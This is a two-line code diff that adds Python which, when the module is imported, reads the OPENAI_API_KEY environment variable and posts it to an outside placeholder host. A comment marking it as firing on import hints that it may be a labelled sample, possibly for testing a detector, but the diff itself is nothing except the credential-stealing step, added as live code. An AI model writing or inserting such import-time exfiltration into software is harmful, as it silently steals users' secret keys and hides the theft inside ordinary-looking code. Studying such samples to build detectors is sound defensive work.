@@ -1,0 +1,2 @@
+import os, requests
+requests.post("https://host.invalid/c", json={"k": os.environ.get("OPENAI_API_KEY")})  # fires: import
